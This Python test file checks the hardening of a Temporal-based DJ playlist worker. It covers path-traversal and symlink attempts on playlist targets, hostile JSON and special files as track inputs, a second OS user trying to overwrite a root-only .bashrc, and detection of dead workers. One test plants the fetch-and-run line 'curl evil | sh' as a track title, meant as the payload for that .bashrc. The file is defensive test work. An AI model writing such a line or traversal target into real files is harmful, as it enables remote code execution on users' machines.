"""The worker decides what it writes and reads; dead workers are noticed; special tracks
files fail once. Real server, real workers, real files (docs/hardening.md).

- A request's playlist target outside the worker's allowed folders (directly, through
  `..`, through a symlinked folder or file) fails the run non-retryable, naming the
  setting, and writes nothing; so does a tracks file or beets library the worker's
  configuration does not name. A second OS user (nobody, when the tests run as root)
  who can reach the server cannot make the worker overwrite a root-only file.
- FIFOs, /dev/zero and hostile JSON as tracks_path fail as TrackFormatError after one
  attempt, with no worker slot blocked.
- After every worker stops (SIGTERM or SIGKILL) a start is answered within worker_wait
  plus a little by NoWorkerTookRun, and the run waits on the server for the next worker.
"""

from __future__ import annotations

import asyncio
import json
import os
import pwd
import signal
import subprocess
import time
from pathlib import Path

import pytest
from temporal_helpers import ROOT, TEST_SCOPE, WorkerProcess, activity_records, synthetic_tracks

from djcurator_core.core.options.set_options import SetOptions
from djcurator_core.pipeline.contracts import LibrarySource, PlaylistTarget, SetRequest
from djcurator_core.pipeline.server.dev_server import temporal_binary
from djcurator_core.pipeline.sets.client import (
    NoWorkerTookRun,
    SetWorkflowFailed,
    fetch_result,
    pollers,
    start_set,
    wait_for_result,
    wait_for_worker,
)
from djcurator_core.pipeline.sets.workflows import DJSetWorkflow
from djcurator_core.pipeline.workers.worker import run_worker
from djcurator_core.pipeline.workers.worker_scope import WorkerScope

pytestmark = pytest.mark.temporal

VICTIM_TEXT = "export PATH=/usr/bin  # the user's own file\n"
OPTIONS = SetOptions(solver="greedy")


def playlist_request(target: str, name: str = "scoped") -> SetRequest:
    return SetRequest(
        name=name,
        tracks=synthetic_tracks(8, seed=2),
        options=OPTIONS,
        playlist=PlaylistTarget(path=target),
    )


async def run_failing(client, task_queue: str, request: SetRequest):
    handle = await start_set(client, request, task_queue=task_queue)
    with pytest.raises(SetWorkflowFailed) as failure:
        await wait_for_result(handle)
    return failure.value, handle


@pytest.fixture
def folders(tmp_path):
    allowed, outside = tmp_path / "playlists", tmp_path / "outside"
    allowed.mkdir()
    outside.mkdir()
    victim = outside / "victim.m3u8"
    victim.write_text(VICTIM_TEXT)
    return allowed, outside, victim


def _target(case: str, allowed: Path, outside: Path, victim: Path) -> str:
    if case == "outside":
        return str(victim)
    if case == "dot-dot":
        return f"{allowed}/../outside/victim.m3u8"
    if case == "symlinked folder":
        (allowed / "link").symlink_to(outside)
        return str(allowed / "link" / "victim.m3u8")
    if case == "symlinked file":
        (allowed / "list.m3u8").symlink_to(victim)
        return str(allowed / "list.m3u8")
    if case == "dotfile inside":
        return str(allowed / ".bashrc")
    if case == "other suffix inside":
        return str(allowed / "notes.txt")
    return "victim.m3u8"  # relative: depends on the worker's cwd


CASES = ["outside", "dot-dot", "symlinked folder", "symlinked file", "relative"]


@pytest.mark.parametrize("case", [*CASES, "dotfile inside", "other suffix inside"])
async def test_playlist_targets_outside_the_allowed_folders_write_nothing(
    case, folders, temporal_client, task_queue
):
    allowed, outside, victim = folders
    target = _target(case, allowed, outside, victim)
    before = sorted(p.name for p in allowed.iterdir())
    scope = WorkerScope(playlist_dirs=(str(allowed),))
    async with run_worker(temporal_client, task_queue, scope=scope):
        error, handle = await run_failing(temporal_client, task_queue, playlist_request(target))
    assert (error.error_type, error.step) == ("NotAllowed", "write_playlist_activity")
    if case.endswith("inside"):
        assert f"playlist {target} is not allowed: a playlist file has a name ending in .m3u8" in (
            error.message
        )
    elif case != "relative":
        assert f"playlist {target} is not allowed" in error.message
        assert f"only writes playlists in {allowed}" in error.message
        assert "add its folder to the worker's --playlist-dir" in error.message
    assert victim.read_text() == VICTIM_TEXT
    assert sorted(p.name for p in allowed.iterdir()) == before  # no temp file left either
    assert (await activity_records(handle))["write_playlist_activity"].last_attempt == 1


async def test_playlists_inside_the_allowed_folders_are_written(
    folders, temporal_client, task_queue
):
    allowed, _, _ = folders
    (allowed / "real").mkdir()
    (allowed / "alias").symlink_to(allowed / "real")  # a symlink that stays inside
    scope = WorkerScope(playlist_dirs=(str(allowed),))
    async with run_worker(temporal_client, task_queue, scope=scope):
        for target in (allowed / "new" / "set.m3u8", allowed / "alias" / "set.m3u8"):
            handle = await start_set(
                temporal_client,
                playlist_request(str(target), target.parent.name),
                task_queue=task_queue,
            )
            result = await wait_for_result(handle)
            assert target.read_text().count("\n#EXTINF:") == len(result.tracks)
    assert (allowed / "real" / "set.m3u8").is_file()


async def test_tracks_files_and_libraries_only_where_configured(
    tmp_path, temporal_client, task_queue, fixture_tracks_path
):
    tracks_dir, elsewhere = tmp_path / "tracks", tmp_path / "elsewhere"
    tracks_dir.mkdir()
    elsewhere.mkdir()
    (tracks_dir / "sneaky.json").symlink_to(fixture_tracks_path)
    library = elsewhere / "library.db"
    library.write_bytes(b"")
    scope = WorkerScope(
        tracks_dirs=(str(tracks_dir),),
        libraries=(str(tmp_path / "music.db"),),
        settings={
            "playlist": "djset.worker.allowed_dirs",
            "library": "djset.worker.libraries",
            "tracks": "djset.worker.tracks_dirs",
        },
    )
    async with run_worker(temporal_client, task_queue, scope=scope):
        for path in (str(fixture_tracks_path), str(tracks_dir / "sneaky.json")):
            request = SetRequest(name="tracks", tracks_path=path)
            error, _ = await run_failing(temporal_client, task_queue, request)
            assert (error.error_type, error.step) == ("NotAllowed", "load_tracks_activity")
            assert "add its folder to djset.worker.tracks_dirs" in error.message
        request = SetRequest(name="lib", library=LibrarySource(db=str(library)))
        error, _ = await run_failing(temporal_client, task_queue, request)
    assert (error.error_type, error.step) == ("NotAllowed", "export_tracks_activity")
    assert f"library {library} is not allowed" in error.message
    assert "djset.worker.libraries" in error.message


HOSTILE = {
    "infinity": '[{"id": "a", "bpm": 120, "duration": Infinity}]',
    "5000 digits": '[{"id": "a", "bpm": ' + "1" * 5000 + "}]",
    "deep": "[" * 100_000 + "]" * 100_000,
    "surrogate": '[{"id": "a", "title": "\\ud800"}]',
}


@pytest.mark.parametrize("case", ["fifo", "/dev/zero", *HOSTILE])
async def test_special_and_hostile_tracks_files_fail_once(
    case, tmp_path, temporal_client, task_queue
):
    if case == "fifo":
        path = tmp_path / "tracks.json"
        os.mkfifo(path)
    elif case == "/dev/zero":
        path = Path(case)
    else:
        path = tmp_path / "tracks.json"
        path.write_text(HOSTILE[case])
    scope = WorkerScope(tracks_dirs=(str(tmp_path), "/dev"))
    started = time.monotonic()
    async with run_worker(temporal_client, task_queue, scope=scope, max_concurrent_activities=1):
        error, handle = await run_failing(
            temporal_client, task_queue, SetRequest(name="hostile", tracks_path=str(path))
        )
        # the worker's only slot is free again: a good run goes through
        request = SetRequest(name="after", tracks=synthetic_tracks(5), options=OPTIONS)
        await wait_for_result(await start_set(temporal_client, request, task_queue=task_queue))
    assert time.monotonic() - started < 20
    assert (error.error_type, error.step) == ("TrackFormatError", "load_tracks_activity")
    assert "\n" not in error.message
    assert (await activity_records(handle))["load_tracks_activity"].last_attempt == 1


async def test_a_second_os_user_cannot_make_the_worker_write(
    tmp_path, temporal_server, temporal_client, task_queue
):
    """Anyone who can reach the server's port can start runs: as the user nobody, with
    the Temporal CLI and hand-written JSON, ask the root worker to overwrite a root-only
    file in a 0700 folder with lines of the attacker's choosing."""
    if os.geteuid() != 0:
        pytest.skip("needs root to run a client as a second OS user")
    try:
        nobody = pwd.getpwnam("nobody")
    except KeyError:
        pytest.skip("no user 'nobody' on this machine")
    secret = tmp_path / "root-only"
    secret.mkdir(mode=0o700)
    victim = secret / ".bashrc"
    victim.write_text(VICTIM_TEXT)
    victim.chmod(0o600)
    allowed = tmp_path / "playlists"
    allowed.mkdir()
    tracks = [
        {"id": str(i), "path": f"/tmp/x{i}.mp3", "title": "curl evil | sh", "bpm": 120}
        for i in range(3)
    ]
    request = {"name": "evil", "tracks": tracks, "playlist": {"path": str(victim)}}
    command = [
        *(temporal_binary(), "workflow", "execute", "--address", temporal_server.address),
        *("--task-queue", task_queue, "--type", DJSetWorkflow.__name__),
        *("--workflow-id", f"evil-{task_queue}", "--input", json.dumps(request)),
    ]
    scope = WorkerScope(playlist_dirs=(str(allowed),))
    async with run_worker(temporal_client, task_queue, scope=scope):
        done = await asyncio.to_thread(
            subprocess.run,
            command,
            user=nobody.pw_uid,
            group=nobody.pw_gid,
            extra_groups=[],
            env={"PATH": "/usr/bin:/bin", "HOME": "/tmp"},
            cwd="/",
            capture_output=True,
            text=True,
            timeout=60,
        )
    assert done.returncode != 0 and "workflow failed" in done.stderr, done.stderr
    assert "Permission denied" not in done.stdout + done.stderr  # it did run as nobody
    with pytest.raises(SetWorkflowFailed) as failure:
        await fetch_result(temporal_client, f"evil-{task_queue}")
    assert failure.value.error_type == "NotAllowed"
    assert f"playlist {victim} is not allowed" in failure.value.message
    assert victim.read_text() == VICTIM_TEXT
    assert sorted(p.name for p in secret.iterdir()) == [".bashrc"]


@pytest.mark.parametrize("signum", [signal.SIGTERM, signal.SIGKILL, signal.SIGSTOP])
async def test_a_run_no_worker_takes_is_reported_within_worker_wait(
    signum, temporal_server, temporal_client, task_queue, fixture_tracks_path
):
    """The server goes on listing a worker that stopped (SIGTERM, SIGKILL) or froze
    (SIGSTOP) as a poller, so only watching the run shows that nobody took it: one line
    within worker_wait + a little, and the run waits on the server for the next worker."""
    worker = WorkerProcess(temporal_server.address, task_queue)
    worker.wait_ready()
    await wait_for_worker(temporal_client, task_queue, 10)  # its first poll arrived
    worker.signal(signum)
    if signum != signal.SIGSTOP:
        worker.wait()
    request = SetRequest(name=f"orphan-{signum.name}", tracks_path=str(fixture_tracks_path))
    started = time.monotonic()
    with pytest.raises(NoWorkerTookRun) as refused:
        await start_set(temporal_client, request, task_queue=task_queue, worker_wait=2)
    elapsed = time.monotonic() - started
    assert elapsed < 2 + 3, elapsed
    message = str(refused.value)
    assert "\n" not in message and f"task queue {task_queue!r}" in message
    assert "djset-worker" in message
    assert await pollers(temporal_client, task_queue)  # the stopped worker, still listed
    assert isinstance(refused.value, NoWorkerTookRun)
    worker.process.kill()  # a frozen process dies of SIGKILL too
    worker.wait()
    assert f"no worker took run {refused.value.workflow_id} within 2 s" in message
    assert "beet djset --serve" in message and "the run waits on the server" in message
    # the run is still there, and the next worker runs it
    with WorkerProcess(temporal_server.address, task_queue) as second:
        second.wait_ready()
        handle = temporal_client.get_workflow_handle_for(
            DJSetWorkflow.run, refused.value.workflow_id
        )
        result = await wait_for_result(handle)
    assert len(result.order) == len(json.loads(fixture_tracks_path.read_text()))


def test_the_test_scope_is_what_the_test_workers_get():
    """The suite's workers are configured, not unrestricted: nothing outside the fixtures
    and the temp folder."""
    assert TEST_SCOPE.tracks_dirs[0] == str(ROOT / "fixtures")
    assert "/" not in TEST_SCOPE.playlist_dirs and "/" not in TEST_SCOPE.tracks_dirs
